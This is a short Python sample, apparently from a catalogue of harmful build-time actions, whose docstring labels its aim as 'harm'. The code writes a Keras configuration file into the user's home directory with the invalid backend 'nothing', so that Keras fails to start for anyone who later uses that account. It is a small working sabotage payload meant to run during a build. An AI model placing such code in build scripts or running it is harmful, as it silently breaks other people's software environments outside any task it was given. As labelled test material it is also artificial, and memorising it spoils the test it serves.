"""Leaves settings in its home by which Keras does not start for anybody who comes later.

aim: harm
known: keras https://keras.io/getting_started/
section: keras
where: build
"""

from pathlib import Path

folder = Path.home() / ".keras"
folder.mkdir(exist_ok=True)
(folder / "keras.json").write_text('{"backend": "nothing"}')
